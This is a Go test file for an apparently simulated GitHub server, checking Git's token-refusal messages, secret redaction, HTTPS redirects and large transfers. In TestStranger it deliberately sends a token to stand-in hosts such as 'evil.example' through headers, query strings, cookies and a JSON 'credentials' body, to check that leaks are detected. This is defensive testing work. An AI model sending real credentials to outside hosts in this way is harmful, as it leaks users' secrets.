package githubtest

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// A client is the machine of a user. It has its own home and no Git
// configuration, except on the command line, and it reaches the server for
// every URL.
type client struct {
	t   *testing.T
	dir string
	env []string
	in  string
}

func startServer(t *testing.T) *Server {
	t.Helper()
	s, err := NewServer(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(s.Close)
	return s
}

func newClient(t *testing.T, s *Server) *client {
	dir := t.TempDir()
	env := append(s.Env(),
		"PATH="+os.Getenv("PATH"),
		"HOME="+dir,
		"GIT_CONFIG_GLOBAL="+os.DevNull,
		"GIT_CONFIG_NOSYSTEM=1",
		"GIT_TERMINAL_PROMPT=0",
		"GIT_AUTHOR_NAME=Alice", "GIT_AUTHOR_EMAIL=alice@client.example",
		"GIT_COMMITTER_NAME=Alice", "GIT_COMMITTER_EMAIL=alice@client.example",
		"LC_ALL=C",
	)
	return &client{t: t, dir: dir, env: env}
}

// helper is a credential helper that returns one user name and one secret for
// every URL. The secret is in the environment, which Git never prints.
const helper = `!f() { test "$1" = get && echo "username=$TEST_USER" && echo "password=$TEST_SECRET"; }; f`

// git runs Git with a credential in a folder of the client.
func (c *client) git(user, secret, dir string, args ...string) (stdout, stderr string, err error) {
	c.t.Helper()
	if secret != "" {
		args = append([]string{"-c", "credential.helper=" + helper}, args...)
	}
	ctx, cancel := context.WithTimeout(c.t.Context(), 2*time.Minute) // Git sometimes waited forever
	defer cancel()
	cmd := exec.CommandContext(ctx, "git", args...)
	cmd.WaitDelay = time.Second
	cmd.Dir = filepath.Join(c.dir, dir)
	cmd.Env = append(c.env[:len(c.env):len(c.env)], "TEST_USER="+user, "TEST_SECRET="+secret)
	cmd.Stdin = strings.NewReader(c.in)
	var out, errs bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errs
	err = cmd.Run()
	if secret != "" && strings.Contains(out.String()+errs.String(), secret) {
		c.t.Errorf("git %q printed the secret", args)
	}
	return out.String(), errs.String(), err
}

// must is like git, for commands that must succeed.
func (c *client) must(user, secret, dir string, args ...string) string {
	c.t.Helper()
	stdout, stderr, err := c.git(user, secret, dir, args...)
	if err != nil {
		c.t.Fatalf("git %q: %v\n%s", args, err, stderr)
	}
	return stdout
}

// refused is like git, for commands that must fail with a known message.
func (c *client) refused(user, secret, dir, want string, args ...string) {
	c.t.Helper()
	_, stderr, err := c.git(user, secret, dir, args...)
	if err == nil {
		c.t.Errorf("git %q: succeeded", args)
	}
	if got := strings.TrimSpace(stderr); got != want {
		c.t.Errorf("git %q:\ngot  %q\nwant %q", args, got, want)
	}
}

// commit creates a commit with one file in a clone.
func (c *client) commit(dir, name string, content []byte) {
	c.t.Helper()
	if err := os.WriteFile(filepath.Join(c.dir, dir, name), content, 0o600); err != nil {
		c.t.Fatal(err)
	}
	c.must("", "", dir, "add", name)
	c.must("", "", dir, "commit", "--quiet", "-m", "Add "+name)
}

func addRepository(t *testing.T, s *Server, r Repository) string {
	t.Helper()
	dir, err := s.AddRepository(r)
	if err != nil {
		t.Fatal(err)
	}
	return dir
}

func addToken(t *testing.T, s *Server, token Token) string {
	t.Helper()
	secret, err := s.AddToken(token)
	if err != nil {
		t.Fatal(err)
	}
	return secret
}

// head returns the commit of the branch main in a repository of the server.
func head(t *testing.T, dir string) string {
	t.Helper()
	cmd := exec.Command("git", "--git-dir="+dir, "rev-parse", "refs/heads/main")
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "GIT_CONFIG_GLOBAL=" + os.DevNull, "GIT_CONFIG_NOSYSTEM=1"}
	out, err := cmd.Output()
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimSpace(string(out))
}

// TestRefusals checks each text as Git shows it.
func TestRefusals(t *testing.T) {
	t.Parallel()
	s := startServer(t)
	s.AddHost("ghes.corp.example")
	s.AddHost("gist.ghes.corp.example")
	for _, r := range []Repository{
		{Owner: "acme", Name: "widgets", Private: true, Wiki: true},
		{Owner: "acme", Name: "other", Private: true},
		{Owner: "acme", Name: "site"},
		{Owner: "globex", Name: "plans", Private: true},
		{Host: "gist.github.com", Owner: "alice", Name: "0123abcd"},
		{Host: "ghes.corp.example", Owner: "acme", Name: "widgets", Private: true},
	} {
		addRepository(t, s, r)
	}
	past := time.Now().Add(-time.Minute)
	tokens := map[string]string{
		"reader":   addToken(t, s, Token{Kind: FineGrained, Login: "alice", Owner: "acme", Repositories: []string{"widgets"}}),
		"insider":  addToken(t, s, Token{Kind: FineGrained, Login: "alice", Owner: "acme", Owners: []string{"acme"}, Write: true}),
		"pending":  addToken(t, s, Token{Kind: FineGrained, Login: "alice", Owner: "acme", Repositories: []string{}, Write: true}),
		"expired":  addToken(t, s, Token{Kind: FineGrained, Login: "alice", Owner: "acme", Expires: past}),
		"revoked":  addToken(t, s, Token{Kind: Classic, Login: "alice"}),
		"classic":  addToken(t, s, Token{Kind: Classic, Login: "alice", Owners: []string{"acme"}, Write: true}),
		"noscope":  addToken(t, s, Token{Kind: Classic, Login: "alice", Scopes: []string{}, Write: true}),
		"nogist":   addToken(t, s, Token{Kind: OAuth, Login: "alice", Scopes: []string{"repo"}, Write: true}),
		"ci":       addToken(t, s, Token{Kind: AppInstallation, Login: "acme-ci[bot]", Owner: "acme", Repositories: []string{"widgets"}}),
		"bob":      addToken(t, s, Token{Kind: Classic, Login: "bob", Write: true}),
		"ghes":     addToken(t, s, Token{Kind: Classic, Host: "ghes.corp.example", Login: "alice", Write: true}),
		"password": "a password of 2020",
	}
	if err := s.Revoke(tokens["revoked"]); err != nil {
		t.Fatal(err)
	}
	const (
		invalid    = "remote: Invalid username or token. Password authentication is not supported for Git operations.\n"
		notGranted = "remote: Write access to repository not granted.\n"
		notFound   = "remote: Repository not found.\n"
		noLogin    = "fatal: could not read Username for 'https://github.com': terminal prompts disabled"
	)
	failed := func(path string) string {
		return "fatal: Authentication failed for 'https://" + path + "/'"
	}
	status := func(path string, status int) string {
		return fmt.Sprintf("fatal: unable to access 'https://%s/': The requested URL returned error: %d", path, status)
	}
	missing := func(path string) string {
		return "fatal: repository 'https://" + path + "/' not found"
	}
	const (
		widgets  = "github.com/acme/widgets.git"
		other    = "github.com/acme/other.git"
		site     = "github.com/acme/site.git"
		plans    = "github.com/globex/plans.git"
		gist     = "gist.github.com/0123abcd.git"
		onGHES   = "ghes.corp.example/acme/widgets.git"
		wiki     = "github.com/acme/widgets.wiki.git"
		otherWik = "github.com/acme/other.wiki.git"
		unknown  = "github.com/acme/unknown.git"
	)
	tests := []struct {
		token, url string
		read, push string // what Git prints; empty if the operation succeeds
	}{
		// No token.
		{"", widgets, noLogin, noLogin},
		{"", unknown, noLogin, noLogin},
		{"", site, "", noLogin},
		// Invalid tokens. They are rejected for public repositories too.
		{"password", widgets, invalid + failed(widgets), invalid + failed(widgets)},
		{"password", site, "", invalid + failed(site)},
		{"expired", widgets, invalid + failed(widgets), invalid + failed(widgets)},
		{"revoked", widgets, invalid + failed(widgets), invalid + failed(widgets)},
		{"ghes", widgets, invalid + failed(widgets), invalid + failed(widgets)},
		{"classic", onGHES, invalid + failed(onGHES), invalid + failed(onGHES)},
		{"ghes", gist, "", invalid + failed(gist)},
		// Fine-grained tokens.
		{"reader", widgets, "", "remote: Permission to acme/widgets.git denied to alice.\n" + status(widgets, 403)},
		{"reader", "github.com/ACME/Widgets", "", "remote: Permission to acme/widgets.git denied to alice.\n" + status("github.com/ACME/Widgets", 403)},
		{"reader", wiki, "", "remote: Permission to acme/widgets.wiki.git denied to alice.\n" + status(wiki, 403)},
		{"reader", other, notGranted + status(other, 403), notGranted + status(other, 403)},
		{"reader", site, "", "remote: Permission to acme/site.git denied to alice.\n" + status(site, 403)},
		{"reader", plans, notGranted + status(plans, 403), notGranted + status(plans, 403)},
		{"reader", unknown, notFound + missing(unknown), notFound + missing(unknown)},
		{"insider", plans, notFound + missing(plans), notFound + missing(plans)},
		{"insider", otherWik, notFound + missing(otherWik), notFound + missing(otherWik)},
		{"pending", widgets, notGranted + status(widgets, 403), notGranted + status(widgets, 403)},
		{"pending", site, "", "remote: Permission to acme/site.git denied to alice.\n" + status(site, 403)},
		// Other kinds.
		{"classic", plans, notFound + missing(plans), notFound + missing(plans)},
		{"classic", unknown, notFound + missing(unknown), notFound + missing(unknown)},
		{"noscope", widgets, notFound + missing(widgets), notFound + missing(widgets)},
		{"noscope", site, "", "remote: Permission to acme/site.git denied to alice.\n" + status(site, 403)},
		{"ci", widgets, "", "remote: Permission to acme/widgets.git denied to acme-ci[bot].\n" + status(widgets, 403)},
		{"ci", other, notFound + missing(other), notFound + missing(other)},
		// Gists.
		{"classic", gist, "", ""},
		{"classic", "gist.github.com/alice/0123abcd.git", "", ""},
		{"bob", gist, "", "remote: Permission to write to gist denied.\n" + status(gist, 403)},
		{"nogist", gist, "", "remote: Permission to write to gist denied.\n" + status(gist, 403)},
		{"reader", gist, "", "remote: Permission to write to gist denied.\n" + status(gist, 403)},
	}
	for _, test := range tests {
		t.Run(test.token+" "+test.url, func(t *testing.T) {
			t.Parallel()
			c := newClient(t, s)
			c.must("", "", "", "init", "--quiet", "work")
			c.must("", "", "work", "symbolic-ref", "HEAD", "refs/heads/"+t.Name())
			c.commit("work", "file", []byte(t.Name()))
			check := func(want string, args ...string) {
				t.Helper()
				if want != "" {
					c.refused("any", tokens[test.token], "work", want, args...)
				} else {
					c.must("any", tokens[test.token], "work", args...)
				}
			}
			check(test.read, "ls-remote", "--quiet", "https://"+test.url)
			check(test.push, "push", "--quiet", "https://"+test.url, "HEAD")
		})
	}
}

// TestStranger checks that an unregistered host asks for a password and that
// the log shows what the host received.
func TestStranger(t *testing.T) {
	t.Parallel()
	s := startServer(t)
	secret := addToken(t, s, Token{ID: "mine", Kind: FineGrained, Login: "alice", Owner: "acme"})
	c := newClient(t, s)
	const url = "https://evil.example/acme/widgets.git"
	c.refused("", "", "", "fatal: could not read Username for 'https://evil.example': terminal prompts disabled", "ls-remote", url)
	if got := s.Requests(); len(got) != 1 || got[0].Host != "evil.example" || got[0].Status != 401 || got[0].Token != "" {
		t.Errorf("log: %+v, want one request without a token", got)
	}
	if got := s.SecretsSeenBy("evil.example"); len(got) != 0 {
		t.Errorf("seen %q, want none", got)
	}

	// A secret in any part of a request is in the log.
	c.refused("alice", secret, "", "remote: Authentication required.\nfatal: Authentication failed for '"+url+"/'", "ls-remote", url)
	web := webClient(t, s)
	for i, change := range []func(*http.Request){
		func(r *http.Request) { r.Header.Set("Private-Token", secret) },
		func(r *http.Request) { r.URL.RawQuery = "access_token=" + secret },
		func(r *http.Request) { r.Header.Set("Cookie", "a=b; t="+secret) },
	} {
		r, _ := http.NewRequest("POST", fmt.Sprintf("https://evil%d.example/", i), nil)
		change(r)
		do(t, web, r)
		if got, want := fmt.Sprint(s.SecretsSeenBy(r.Host)), "[mine]"; got != want {
			t.Errorf("%d: seen %s, want %s", i, got, want)
		}
	}
	r, _ := http.NewRequest("POST", "https://evil.example/", strings.NewReader(`{"credentials":["`+secret+`"]}`))
	do(t, web, r)
	if got, want := fmt.Sprint(s.SecretsSeenBy("evil.example")), "[mine]"; got != want {
		t.Errorf("seen %s, want %s", got, want)
	}
	if log := s.Requests(); log[len(log)-1].Token != "mine" {
		t.Errorf("the token in a body is not in the log: %+v", log[len(log)-1])
	}
}

// TestClear checks that requests without TLS are redirected to https and marked
// in the log.
func TestClear(t *testing.T) {
	t.Parallel()
	s := startServer(t)
	addRepository(t, s, Repository{Owner: "acme", Name: "widgets", Private: true})
	secret := addToken(t, s, Token{ID: "mine", Kind: FineGrained, Login: "alice", Owner: "acme"})
	c := newClient(t, s)
	c.must("alice", secret, "", "ls-remote", "http://github.com/acme/widgets")
	log := s.Requests()
	first := log[0]
	if first.Host != "github.com:80" || first.Status != 301 || first.Path != "/acme/widgets/info/refs" {
		t.Errorf("log: %+v, want a redirect in the clear", first)
	}
	if got := s.SecretsSeenBy("github.com:80"); len(got) != 0 {
		t.Errorf("seen in the clear: %q, want none", got)
	}
	// A client that sends its token without TLS.
	r, _ := http.NewRequest("GET", "http://github.com/acme/widgets?a=b", nil)
	r.SetBasicAuth("alice", secret)
	answer, _ := do(t, webClient(t, s), r)
	if got, want := answer.Header.Get("Location"), "https://github.com/acme/widgets?a=b"; got != want {
		t.Errorf("Location %q, want %q", got, want)
	}
	if got, want := fmt.Sprint(s.SecretsSeenBy("github.com:80")), "[mine]"; got != want {
		t.Errorf("seen in the clear: %s, want %s", got, want)
	}
}

// TestLargeBodies sends bodies larger than Git's buffer, in chunks, and a
// request that Git compresses, with both versions of HTTP.
func TestLargeBodies(t *testing.T) {
	t.Parallel()
	for _, version := range []string{"HTTP/1.1", "HTTP/2"} {
		t.Run(version, func(t *testing.T) {
			t.Parallel()
			s := startServer(t)
			dir := addRepository(t, s, Repository{Owner: "acme", Name: "widgets", Private: true})
			secret := addToken(t, s, Token{Kind: Classic, Login: "alice", Write: true})
			c := newClient(t, s)
			const url = "https://github.com/acme/widgets.git"
			for _, name := range []string{"work", "other"} {
				c.must("alice", secret, "", "clone", "--quiet", "-c", "http.version="+version, url, name)
			}
			c.commit("work", "large", []byte(randomString(base62, 8<<20)))
			c.must("alice", secret, "work", "push", "--quiet", "origin", "main")
			want := strings.TrimSpace(c.must("", "", "work", "rev-parse", "HEAD"))
			if got := head(t, dir); got != want {
				t.Errorf("main is %s after the push, want %s", got, want)
			}

			// A fetch sends the list of local commits, which is long here.
			var stream strings.Builder
			for i := range 100 {
				fmt.Fprintf(&stream, "commit refs/heads/long\ncommitter A <a@b.example> %d +0000\ndata 0\n\n", 1767225600+i)
			}
			c.in = stream.String()
			c.must("", "", "other", "fast-import", "--quiet")
			c.in = ""
			c.env = append(c.env, "GIT_TRACE_CURL=1")
			_, stderr, err := c.git("alice", secret, "other", "fetch", "--quiet")
			if err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(strings.ToLower(stderr), "content-encoding: gzip") {
				t.Error("Git compressed nothing: this tests nothing")
			}
			if got := strings.TrimSpace(c.must("", "", "other", "rev-parse", "origin/main")); got != want {
				t.Errorf("fetched %s, want %s", got, want)
			}
			c.must("alice", secret, "", "clone", "--quiet", "--filter=blob:none", "--no-checkout", url, "partial")
		})
	}
}
